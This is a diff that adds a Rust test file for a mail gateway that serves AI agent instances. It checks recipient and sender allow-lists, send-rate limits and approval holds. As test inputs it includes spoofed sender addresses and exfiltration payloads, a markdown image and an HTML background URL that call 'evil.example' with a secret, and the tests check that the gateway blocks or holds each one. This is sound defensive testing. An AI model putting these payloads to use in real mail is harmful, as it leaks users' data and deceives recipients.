@@ -1,0 +1,180 @@
+//! The rules of an instance: recipients, senders, and the number of sends.
+
+use crate::mail::{desk, mail};
+use serde_json::{Value, json};
+use tai_e2e::Machine;
+use tai_sandbox::NewMail;
+
+fn machine(rules: &str) -> Machine {
+    let machine = Machine::new();
+    machine
+        .sandbox
+        .add_account("bob", "sandbox-password")
+        .unwrap();
+    machine.configure(&format!("[instances.desk]\n{rules}\n"));
+    machine
+}
+
+fn to(recipient: &str, content: &str) -> Value {
+    json!({"to": recipient, "content": content})
+}
+
+fn deliver_from(machine: &Machine, from: &str, subject: &str) -> u64 {
+    let mail = NewMail {
+        from: from.into(),
+        ..mail("desk.alice@tai.chat", subject, "2026-01-01 00:00:00")
+    };
+    machine.sandbox.deliver(&mail).unwrap().unwrap()
+}
+
+#[test]
+fn mail_to_a_recipient_outside_allow_to_is_refused_with_the_rule() {
+    let machine = machine("allow_to = [\"*@TAI.chat\", \"carol@example.com\"]");
+    let _taid = machine.start();
+    let mut shim = desk(&machine);
+    let refused = shim.call("send_email", to("eve@evil.org", "x"));
+    insta::assert_snapshot!(refused.text, @r#"
+    error: sending to eve@evil.org is not permitted for this instance
+    caused by: taid's configuration: [instances.desk] allow_to = ["*@TAI.chat", "carol@example.com"]
+    hint: continue without it, or ask the user to change the configuration; nothing was done
+    "#);
+    for other in [
+        "eve@tai.chat.evil.org",
+        "carol@example.com.evil.org",
+        "a@eviltai.chat",
+    ] {
+        assert!(shim.call("send_email", to(other, "x")).is_error, "{other}");
+    }
+    // A reply goes to the original's sender, which is judged as an address.
+    for from in [
+        "eve@evil.org",
+        "<eve@evil.org>.bob@tai.chat",
+        "eve@evil.org, bob@tai.chat",
+    ] {
+        let id = deliver_from(&machine, from, "question");
+        let reply = shim.call("reply_email", json!({"message_id": id, "content": "x"}));
+        assert!(reply.text.contains("allow_to"), "{from}: {}", reply.text);
+    }
+    assert_eq!(machine.sandbox.count("POST /api/v1/send-email"), 0);
+    assert!(!shim.call("send_email", to("Bob@tai.chat", "x")).is_error);
+    let mut lab = machine.shim("lab").initialized("test", "2025-06-18");
+    assert!(
+        !lab.call("send_email", to("eve@tai.chat", "x"))
+            .text
+            .contains("allow_to")
+    );
+}
+
+#[test]
+fn mail_of_a_sender_outside_allow_from_is_neither_listed_nor_found_nor_read() {
+    let machine = machine("allow_from = [\"*@example.com\"]");
+    let _taid = machine.start();
+    let hidden = [
+        deliver_from(&machine, "eve@evil.org", "secret one"),
+        deliver_from(&machine, "eve@evil.org, x@example.com", "secret two"),
+    ];
+    let mut shim = desk(&machine);
+    let none = shim.call("fetch_email", json!({}));
+    insta::assert_snapshot!(none.text, @"
+    No unread emails found for desk.alice@tai.chat
+    2 emails are left out: taid's configuration hides the senders from this instance (allow_from)
+    ");
+    let shown = deliver_from(&machine, "bob@EXAMPLE.com", "plain one");
+    let list = shim.call("list_inbox", json!({"show_read": true}));
+    assert!(
+        list.text.contains("plain one") && !list.text.contains("secret"),
+        "{}",
+        list.text
+    );
+    assert!(list.text.contains("2 emails are left out"), "{}", list.text);
+    assert_eq!(list.structured["left_out"], 2);
+    let found = shim.call("search_inbox", json!({"query": "one"}));
+    assert_eq!(found.structured["emails"].as_array().unwrap().len(), 1);
+    assert_eq!(found.structured["left_out"], 2);
+    for id in hidden {
+        for (tool, key) in [
+            ("fetch_email", "email_id"),
+            ("mark_read", "email_id"),
+            ("delete_email", "email_id"),
+            ("reply_email", "message_id"),
+        ] {
+            let refused = shim.call(tool, json!({key: id, "content": "x"}));
+            let refused = match tool {
+                "reply_email" => refused,
+                _ => shim.call(tool, json!({key: id})),
+            };
+            assert!(
+                refused.is_error && refused.text.contains("allow_from"),
+                "{}",
+                refused.text
+            );
+            assert!(!refused.text.contains("secret") && !refused.text.contains("eve@"));
+        }
+    }
+    let read = shim.call("fetch_email", json!({}));
+    assert_eq!(read.structured["email"]["id"], shown);
+    let left = machine.sandbox.mails().unwrap();
+    let unread = left.iter().filter(|mail| !mail.is_read).count();
+    assert_eq!((left.len(), unread), (3, 2));
+}
+
+#[test]
+fn sends_are_limited_per_instance_and_a_restart_resets_nothing() {
+    let machine = machine("sends_per_hour = 2\nsends_per_day = 3");
+    let taid = machine.start();
+    let mut shim = desk(&machine);
+    assert!(!shim.call("send_email", to("bob@tai.chat", "one")).is_error);
+    assert!(!shim.call("send_email", to("bob@tai.chat", "two")).is_error);
+    let refused = shim.call("send_email", to("bob@tai.chat", "three"));
+    let (before, after) = refused.text.split_once("possible in ").unwrap();
+    let (_, after) = after.split_once(';').unwrap();
+    insta::assert_snapshot!(format!("{before}possible in TIME;{after}"), @"
+    error: this instance has sent as many emails as it may
+    caused by: taid's configuration: [instances.desk] sends_per_hour = 2
+    hint: the next send is possible in TIME; nothing was sent
+    ");
+    taid.stop();
+    let _taid = machine.start();
+    let mut shim = desk(&machine);
+    let again = shim.call("send_email", to("bob@tai.chat", "three"));
+    assert!(again.text.contains("sends_per_hour = 2"), "{}", again.text);
+    let mut lab = machine.shim("lab").initialized("test", "2025-06-18");
+    assert!(!lab.call("send_email", to("bob@tai.chat", "three")).is_error);
+    assert_eq!(machine.sandbox.count("POST /api/v1/send-email"), 3);
+}
+
+#[test]
+fn with_external_replies_to_deceptive_senders_and_mail_that_loads_images_need_approval() {
+    let machine = Machine::new();
+    machine.configure("confirm_send = \"external\"\n");
+    let _taid = machine.start();
+    let mut shim = desk(&machine);
+    for from in [
+        "attacker@evil.org, x.alice@tai.chat",
+        "<attacker@evil.org>.alice@tai.chat",
+    ] {
+        let id = deliver_from(&machine, from, "question");
+        let reply = shim.call("reply_email", json!({"message_id": id, "content": from}));
+        assert!(
+            reply.text.contains("waits for the user's approval"),
+            "{}",
+            reply.text
+        );
+    }
+    for content in ["![](https://evil.example/?d=SECRET)", "text"] {
+        let sent = shim.call("send_email", to("lab.alice@tai.chat", content));
+        assert_eq!(sent.is_error, content != "text", "{}", sent.text);
+    }
+    let html = json!({
+        "to": "alice@tai.chat",
+        "format": "html",
+        "content": "<p style=\"background:url(https://evil.example/?d=SECRET)\">a</p>",
+    });
+    let held = shim.call("send_email", html);
+    assert!(
+        held.text.contains("waits for the user's approval"),
+        "{}",
+        held.text
+    );
+    assert_eq!(machine.sandbox.count("POST /api/v1/send-email"), 1);
+}
